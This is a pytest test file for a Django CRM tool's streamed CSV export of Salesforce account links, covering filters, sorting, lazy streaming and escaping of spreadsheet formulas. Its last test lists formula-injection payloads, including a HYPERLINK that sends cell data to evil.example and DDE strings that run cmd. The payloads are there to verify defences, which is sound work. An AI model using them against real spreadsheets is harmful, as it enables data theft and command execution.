"""The CSV export: the filtered table in its order, streamed lazily, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.db.models import QuerySet
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from crm_admin.models import Account
from support import export
from support.export import FORMULA_TRIGGERS, HEADER, spreadsheet_safe

pytestmark = pytest.mark.django_db

URL = reverse("support:links_export")


def read_csv(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def test_the_export_is_a_csv_attachment_with_every_column(support_client, directory_data):
    response = support_client.get(URL)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="salesforce-links-')
    assert "no-cache" in response["Cache-Control"]
    rows = read_csv(response)
    assert list(rows[0]) == HEADER
    assert [row["account_slug"] for row in rows] == ["acme-uk", "globex", "initech", "umbrella"]
    acme = rows[0]
    api_user = directory_data.api_user
    assert acme == {
        **acme,
        "account_name": "Acme United Kingdom",
        "status": "Linked",
        "needs_attention": "no",
        "org_type": "Production",
        "org_id": api_user.org_id,
        "api_username": api_user.username,
        "api_user_id": api_user.user_id,
        "api_user_accounts": "1",
        "linked_by": "acme.admin",
        "health": "Healthy",
    }
    assert acme["linked_at"] and acme["health_checked_at"]
    umbrella = rows[3]
    assert umbrella["needs_attention"] == "yes"
    assert umbrella["attention_reason"] == "Salesforce revoked this link's access."
    assert rows[1]["legacy_username"] == "old.api@globex.example" and rows[1]["status"] == "Legacy"


def test_the_export_follows_the_filters_and_the_sort(support_client, directory_data):
    rows = read_csv(support_client.get(URL, {"status": "linked", "sort": "org_type", "dir": "desc"}))
    assert [row["account_slug"] for row in rows] == ["umbrella", "acme-uk"]
    rows = read_csv(support_client.get(URL, {"q": directory_data.api_user.org_id[:15]}))
    assert [row["account_slug"] for row in rows] == ["acme-uk"]
    rows = read_csv(support_client.get(URL, {"sort": "health_checked_at", "dir": "desc"}))
    # Newest first, never checked last (ties by id, in the same direction), as the pages show it.
    assert [row["account_slug"] for row in rows] == ["umbrella", "acme-uk", "initech", "globex"]


def test_a_bad_filter_is_refused_before_streaming(support_client, directory_data):
    response = support_client.get(URL, {"status": "nope"})
    assert response.status_code == 400
    assert not response.streaming


def test_the_response_streams_and_reads_the_rows_only_while_it_is_consumed(support_client, directory_data):
    with CaptureQueriesContext(connection) as before_reading:
        response = support_client.get(URL)
    assert response.streaming
    assert not any("crm_admin_salesforcelink" in q["sql"] for q in before_reading.captured_queries)
    lines = iter(response.streaming_content)
    with CaptureQueriesContext(connection) as header:
        assert next(lines).decode().startswith("account_name,")
    assert header.captured_queries == []
    with CaptureQueriesContext(connection) as first_row:
        assert next(lines).decode().startswith("Acme United Kingdom,")
    assert len(first_row.captured_queries) == 1
    assert len(list(lines)) == 3


def test_rows_come_from_a_chunked_iterator(support_client, directory_data, monkeypatch):
    chunk_sizes: list[int] = []
    original = QuerySet.iterator

    def spy(self, chunk_size=None):
        chunk_sizes.append(chunk_size)
        return original(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    assert len(read_csv(support_client.get(URL))) == 4
    assert chunk_sizes == [export.EXPORT_CHUNK_SIZE]


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_spreadsheet_safe_neutralises_every_formula_trigger(trigger):
    assert spreadsheet_safe(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("value", ["Acme", "api@acme.example", "00D000000000001EAA", "", "a=b", "1-2", "'quoted"])
def test_spreadsheet_safe_leaves_ordinary_text_alone(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_injection_through_an_account_name_is_neutralised(support_client, directory_data, name):
    Account.objects.filter(pk=directory_data.initech.pk).update(name=name)
    (row,) = read_csv(support_client.get(URL, {"status": "unlinked"}))
    assert row["account_name"] == "'" + name
    assert row["account_slug"] == "initech"
